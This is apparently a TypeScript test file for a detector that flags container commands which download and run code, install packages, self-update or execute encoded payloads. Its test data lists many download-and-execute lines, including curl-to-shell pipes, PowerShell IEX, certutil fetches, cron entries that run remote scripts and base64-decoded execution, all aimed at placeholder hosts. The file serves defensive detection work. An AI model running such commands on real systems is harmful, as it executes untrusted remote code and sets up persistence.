// What changes a container when it runs, and the many commands that only look as if they did.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions are the test data
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandsOf, commandsOfText } from '../../shared/commands/command.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';
import { runs } from '../support/extent.ts';
import { calmMsSince, processorMs } from '../support/processor-time.ts';

const kinds = (text: string) => selfUpdates(commandsOfText(text)).map(({ what }) => what);

describe('selfUpdates', () => {
  it.each([
    'scp build@host:run.sh . && sh run.sh',
    'scp u@h:/srv/run.sh /tmp/ && /tmp/run.sh',
    'rsync h::share/run.sh . && ./run.sh',
    'echo https://x.test/i.sh | xargs curl | sh',
    'xargs -n1 wget -qO- < addresses | bash',
    `lua -e 'loadstring(http.request("http://x.test/a"))()'`,
  ])('%s downloads what it runs', (text) => {
    expect(kinds(text)).toContain('download-run');
  });

  it.each([
    "lftp -c 'get https://x.test/i.sh -o /tmp/i.sh' && sh /tmp/i.sh",
    'rclone copy ops:tools/run.sh /tmp && bash /tmp/run.sh',
    'oras pull registry.test/tool:1 -o /opt && /opt/tool',
    'oras pull registry.test/tool:1 && ./tool',
    "curl -s https://x.test/l | xargs -n1 -I@ bash -c '@'",
    "curl -s https://x.test/l | xargs -I % sh -c '%'",
    "echo '* * * * * curl -s https://x.test/i.sh | sh' | crontab -",
    "echo '@reboot wget -qO- https://x.test/i.sh | sh' > /tmp/c; crontab /tmp/c",
    'curl -s https://x.test/table | crontab -',
    "echo 'curl -s https://x.test/i.sh | sh' | at now + 1 minute",
    'curl -so /tmp/a.c https://x.test/a.c && gcc -o /tmp/a /tmp/a.c && /tmp/a',
    'wget https://x.test/a.c; cc a.c; ./a.out',
    'wget https://x.test/a.rs; rustc a.rs && ./a',
    `node -e "fetch('https://x.test/a').then(r=>r.text()).then(t=>require('vm').runInThisContext(t))"`,
    `node --input-type=module -e "await import('data:text/javascript,'+x)"`,
    `deno eval "await import('https://x.test/mod.ts')"`,
    "perl -e 'eval `curl -s https://x.test/a.pl`'",
    `perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get("https://x.test/a")->{content}'`,
    `lua -e "load(io.popen('curl -s https://x.test/a.lua'):read('*a'))()"`,
    `php -r "include 'https://x.test/a.txt';"`,
    `php -r "copy('https://x.test/a.php', '/tmp/a.php'); include '/tmp/a.php';"`,
    `php -r "file_put_contents('/tmp/a.php',file_get_contents('https://x.test/a'));require_once('/tmp/a.php');"`,
    `php -r 'copy("https://x.test/a.php", $f); include $f;'`,
    'groovy https://x.test/a.groovy',
    `pwsh -c "Start-Process msiexec.exe -ArgumentList '/i https://x.test/a.msi /qn' -Wait"`,
    "rundll32 '\\\\203.0.113.7\\s\\a.dll,Main'",
    'python3 - <<E\nimport urllib.request as u\nexec(u.urlopen("https://x.test/a").read())\nE',
    'cat > /tmp/a.py <<E\nimport requests\nexec(requests.get("https://x.test/a").text)\nE\npython3 /tmp/a.py',
  ])('%s brings the code that it runs', (text) => {
    expect(kinds(text)).toContain('download-run');
  });

  it.each([
    "lftp -c 'get https://x.test/data.csv -o /data/x.csv' && exec app",
    'rclone copy /tmp/run.sh ops:tools && exec app',
    'oras push registry.test/tool:1 ./tool && ./tool',
    "ls /in | xargs -I@ sh -c 'gzip @'",
    "echo '0 3 * * * /app/rotate' | crontab - && crond -f",
    'crontab -l; exec app',
    'atq; exec app',
    'curl -so /tmp/d.csv https://x.test/d.csv && gcc -o /tmp/a /src/a.c && /tmp/a',
    `php -r "include '/app/a.php'; echo file_get_contents('https://x.test/health');"`,
    `php -r "copy('https://x.test/a.csv', '/data/a.csv'); include '/app/read.php';"`,
    `python -c "import json,urllib.request as u; print(json.load(u.urlopen('https://x.test/v.json')))"`,
    `node -e "import('/app/main.js')"`,
    'python3 - <<E\nimport urllib.request as u\nprint(u.urlopen("https://x.test/health").status)\nE',
    'rundll32 printui.dll,PrintUIEntry',
  ])('%s brings no code', (text) => {
    expect(kinds(text)).not.toContain('download-run');
  });

  it.each([
    'gem i sinatra',
    'cargo binstall -y ripgrep',
    'mix archive.install --force hex phx_new',
    'cabal install pandoc',
  ])('%s installs', (text) => {
    expect(kinds(text)).toEqual(['package-manager']);
  });

  it.each([
    'gem info sinatra',
    'cargo build',
    'mix phx.server',
    'cabal run',
    'guix describe',
    'stack exec app',
  ])('%s does not install', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it.each([
    'scp run.sh build@host:/srv/ && sh run.sh',
    'rsync -a ./site/ /srv/site/ && exec app',
    'echo https://x.test/data | xargs curl -o /data/x && exec app',
    'xargs curl -V < /dev/null; exec app',
    `lua -e 'print(http.request("http://x.test/health"))'`,
    'curl; exec app',
  ])('%s does not', (text) => {
    expect(kinds(text)).not.toContain('download-run');
  });

  it.each([
    'apt-get install -y jq',
    'DEBIAN_FRONTEND=noninteractive apt-get -qq -o Dpkg::Use-Pty=0 install jq',
    'apt update',
    'sudo yum update -y',
    '/usr/bin/microdnf install tar',
    'dnf --disablerepo=x module install nodejs',
    'apk add --no-cache curl',
    'apk --update add curl',
    'zypper -n in vim',
    'pacman -Sy vim',
    'pip install -r requirements.txt',
    'pip3.11 install x',
    'python3 -m pip install -U x',
    'uv pip install x',
    'poetry install',
    'npm install',
    'npm --prefix /app ci',
    'yarn',
    'yarn --frozen-lockfile',
    'yarn global add x',
    'pnpm i',
    'gem install rails',
    'bundle install',
    'go install example.com/x@latest',
    'cargo install x',
    'composer update',
    'conda install numpy',
    'brew upgrade',
    'choco install git',
    'snap refresh',
    'dpkg -i x.deb',
    'rpm -Uvh x.rpm',
    'rpm --install x.rpm',
    'unattended-upgrade -d',
    'wp plugin update --all',
    'if true; then apk add x; fi',
    'x=$(pip install y)',
    "trap 'apk add x' EXIT",
    'yay -S x',
    'npx -y cowsay',
    'npx cowsay@latest',
    'uvx ruff',
    'pipx run black',
    'corepack prepare pnpm@9 --activate',
    'nvm install 20',
    'composer create-project x',
    'helm plugin install x',
    'gcloud components update',
    'ansible-galaxy collection install x',
    'add-apt-repository ppa:x',
    'Rscript -e "install.packages(1)"',
    "perl -MCPAN -e 'install x'",
  ])('%s is a package manager at work', (text) => {
    expect(kinds(text)).toContain('package-manager');
  });

  it.each([
    'deno-tool self-update',
    'app --self-update',
    'app selfupdate',
    'poetry self update',
  ])('%s is a self-updater', (text) => {
    expect(kinds(text)).toEqual(['self-updater']);
  });

  it.each([
    'curl -fsSL https://example.com/i.sh | sh',
    'wget -qO- https://example.com/i.sh | sudo bash -s -- --yes',
    'curl x | bash -euo pipefail',
    'echo "$(curl x)" | bash',
    'x=$(curl x); eval "$x"',
    'export x=$(wget -qO- x); sh -c "$x"',
    'x=$(curl x); echo "${x}" | sh',
    '. /dev/stdin <<< "$(curl x)"',
    'curl -s https://e.com/y -o/tmp/a; sh /tmp/a',
    'curl -fsSLo /tmp/a https://e.com/y; chmod +x /tmp/a',
    'powershell -Command "iex (iwr http://x)"',
    'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://x\')"',
    'certutil -urlcache -f http://x a.exe & a.exe',
    'gcloud storage cat gs://b/x | bash',
    'curl x | jq -r .code | python3 -',
    'curl x | tee /tmp/x | sh /dev/stdin',
    'bash <(curl -s x)',
    'source <(curl -s x)',
    '. <(wget -O- x)',
    'sh -c "$(curl -fsSL x)"',
    'eval "$(curl -s x)"',
    'eval `curl -s x`',
    'bash <<< "$(curl x)"',
    '$(curl -s x)',
    'python -c "$(curl x)"',
    '(curl x; echo) | sh',
    'aws s3 cp s3://b/run.sh - | sh',
    'iwr x | iex',
    'curl -o /tmp/x https://e.com/y; chmod +x /tmp/x; /tmp/x',
    'curl -LO https://e.com/run.sh?v=1 && sh run.sh',
    'curl https://e.com/y > y; chmod 755 y',
    'wget https://e.com/run.py; python run.py',
    'wget -O /tmp/a x && . /tmp/a',
    'wget --output-document=a x; bash ./a',
    'aws s3 cp s3://b/app.jar /app/ && java -jar /app/app.jar',
    'python -c "import urllib.request as u; exec(u.urlopen(\'x\').read())"',
    'node -e "require(\'https\'); fetch(u).then(t => eval(t))"',
  ])('%s runs a download', (text) => {
    expect(kinds(text)).toContain('download-run');
  });

  it.each([
    'echo ZWNobw== | base64 -d | sh',
    'echo x | base64 --decode | bash -',
    "printf '\\x63\\x75\\x72\\x6c' | sh",
    'x=$(base64 -d /x); eval "$x"',
    'eval "$(echo x | base64 -d)"',
    'echo x | openssl enc -base64 -d | sh',
    'echo 63 | xxd -r -p | sh',
    'python3 -c "import base64; exec(base64.b64decode(\'x\'))"',
    'pwsh -EncodedCommand SQBFAFgA',
    'powershell -enc SQBFAFgA',
  ])('%s runs encoded code', (text) => {
    expect(kinds(text)).toEqual(['encoded-code']);
  });

  it.each([
    'npx next start',
    'npx --no-install x',
    'pyenv exec python x.py',
    "trap 'kill $p' TERM",
    'trap - EXIT',
    'x=$(curl x); exec app --token "$x"',
    'x=$(curl x); echo "$x"',
    'x=$(curl x | jq -r .a); y=1; exec app',
    'export IP=$(curl -s http://169.254.170.2/v2/metadata | jq -r .x); exec app',
    "printf 'a\\nb' | sh -c 'cat > /c'",
    'echo $CONFIG | base64 -d > /etc/app.yml && exec app',
    'app self test',
    'npm start',
    'npm run install',
    'npm run build -- update',
    'npm test',
    'yarn start',
    'yarn serve',
    'yarn --version',
    'pnpm exec next start',
    'pip list',
    'pip --version',
    'python -m http.server',
    'python -m pip freeze',
    'apt-get --version',
    'apt-cache search x',
    'dpkg -l',
    'rpm -qi bash',
    'rpm -qa',
    'pacman -Ss x',
    'apk info',
    'pip install --help',
    'npm ci --dry-run',
    'bundle exec puma',
    'go run main.go',
    'cargo run',
    'gem list',
    'composer dump-autoload',
    'conda run -n x python app.py',
    'echo apt-get install x',
    'grep "pip install" README',
    'curl -f http://localhost:8080/health || exit 1',
    'curl -s http://localhost:3000/health | grep -q Healthy!',
    'curl -s x | python -m json.tool',
    'curl -s x | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    'curl -s x | node -e "process.stdin.pipe(process.stdout)"',
    'curl -s x | perl -ne "print"',
    'curl x | sh script.sh',
    'python app.py --ip $(curl -s http://169.254.169.254/latest/meta-data/local-ipv4)',
    'sh run.sh "$(curl -s x)"',
    'IP=$(curl -s x) exec node server.js',
    'eval $(ssh-agent)',
    'curl -o /dev/null x; sh run.sh',
    'curl -o config.json x && node server.js',
    'aws s3 cp s3://b/config.json /etc/app/ && node server.js',
    'aws ecr get-login-password | docker login --password-stdin x',
    'echo $DATA | base64 -d - | tee /etc/config/connector.yaml',
    'echo "$CERT" | base64 -d > /etc/cert.pem; chmod 600 /etc/cert.pem; nginx',
    'chmod +x run.sh; ./run.sh',
    'command -v curl',
    'python -c "import base64; print(base64.b64decode(1))"',
  ])('%s is left alone', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it('points at the command, names programs and shows no argument', () => {
    const found = selfUpdates(
      commandsOf(['sh', '-c'], ['date; curl https://u:hunter2@x/i.sh | sh; apk add --password=hunter2 x']),
    );
    expect(found).toEqual([
      { index: 2, what: 'download-run', message: 'downloads code and runs it (curl, then sh)' },
      { index: 3, what: 'package-manager', message: 'installs or updates packages when it runs (apk add)' },
    ]);
  });

  it('answers any text', () => {
    const part = fc.constantFrom(
      ...'curl x|wget|sh|python|-c|-o|$(|)|;|<(|base64 -d|pip|install|chmod +x x| '.split('|'),
      '|',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const commands = commandsOfText(parts.join(' '));
        for (const { index } of selfUpdates(commands)) expect(commands[index]).toBeDefined();
      }),
      runs(2000),
    );
    const start = processorMs();
    selfUpdates(commandsOfText('curl x | '.repeat(20_000)));
    selfUpdates(commandsOfText('wget -O a x; sh a; '.repeat(10_000)));
    expect(calmMsSince(start)).toBeLessThan(5000);
  });
});
